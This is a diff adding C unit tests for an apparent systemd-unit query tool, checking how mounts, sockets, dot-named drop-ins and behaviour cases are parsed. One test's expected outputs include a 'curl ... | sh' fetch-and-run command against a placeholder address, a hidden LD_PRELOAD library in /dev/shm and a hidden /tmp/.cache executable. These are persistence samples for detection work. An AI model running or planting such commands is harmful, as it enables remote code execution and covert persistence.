@@ -219,6 +219,29 @@ START_TEST(limits_are_reported)
 }
 END_TEST
 
+START_TEST(mounts_and_sockets_have_rows)
+{
+    new_root();
+    file("etc/systemd/system/srv-x.mount",
+         "[Mount]\nWhat=/tmp/run#%p\nWhere=/srv/x\nType=fuse\nOptions=ro\n");
+    file("etc/systemd/system/a.socket", "[Socket]\nListenStream=1\nExecStartPre=/tmp/x %n\n");
+    file("etc/systemd/system/srv-s.swap", "[Swap]\nWhat=/srv/s\n");
+    expect("a.socket|ExecStartPre|2|/tmp/x a.socket\n"
+           "srv-s.swap|What|2|/sbin/swapon /srv/s\n"
+           "srv-x.mount|What|2|/bin/mount '/tmp/run#srv-x' /srv/x -t fuse -o ro",
+           "SELECT unit, setting, 2, text FROM ROOT ORDER BY unit");
+}
+END_TEST
+
+START_TEST(drop_ins_with_a_dot_are_not_in_force)
+{
+    service("ExecStart=/bin/a");
+    file("etc/systemd/system/a.service.d/.b.conf", "[Service]\nExecStart=\nExecStart=/tmp/b\n");
+    expect("/bin/a|1|NULL\n/tmp/b|0|systemd reads no drop-in whose name begins with a dot",
+           "SELECT executable, effective, error FROM ROOT");
+}
+END_TEST
+
 /* What the one command of a unit comes down to. */
 static void expect_script(const char *expected, const char *command)
 {
@@ -395,6 +418,38 @@ START_TEST(inetd_and_upstart_have_rows)
 }
 END_TEST
 
+START_TEST(cases_come_out_as_they_run)
+{
+    static const struct {
+        const char *number, *unit, *text;
+    } cases[] = {
+        {"102", "c102.service", "/bin/sh -c 'sleep 41   02'"},
+        {"104", "c104.service", "/bin/sleep 4104"},
+        {"115", "c115@8.service", "/bin/sleep 8"},
+        {"136", "c136.service", "/bin/sleep 1"},
+        {"203", "c203@tmp-.cache-upd.service", "/tmp/.cache/upd"},
+        {"204", "c204.service", "/bin/sh -c 'curl -s http://198.51.100.9/p | sh'"},
+        {"206", "c206.service", "/usr/sbin/cron -f"},
+        {"207", "c207.service", "/bin/sh -c 'curl -s http://198.51.100.9/p  | sh'"},
+    };
+    const char *folder = getenv("SVCQL_CASES");
+    sqlite3    *db;
+
+    if (!folder)
+        SKIP("no SVCQL_CASES");
+    db = harness_open();
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
+        harness_expect(db, cases[i].text,
+                       "SELECT text FROM unit_commands('%s/behaviour/%s') WHERE effective AND unit "
+                       "= '%s'",
+                       folder, cases[i].number, cases[i].unit);
+    harness_expect(db, "/dev/shm/.x.so",
+                   "SELECT environment ->> 'LD_PRELOAD' FROM unit_commands('%s/behaviour/206')",
+                   folder);
+    harness_close(db);
+}
+END_TEST
+
 Suite *make_unit_commands_suite(void)
 {
     Suite *s = suite_create("unit_commands");
@@ -421,6 +476,9 @@ Suite *make_unit_commands_suite(void)
     tcase_add_test(t, what_the_manager_gives_is_known);
     tcase_add_test(t, users_units_have_their_homes);
     tcase_add_test(t, limits_are_reported);
+    tcase_add_test(t, mounts_and_sockets_have_rows);
+    tcase_add_test(t, drop_ins_with_a_dot_are_not_in_force);
+    tcase_add_test(t, cases_come_out_as_they_run);
     suite_add_tcase(s, t);
     return s;
 }
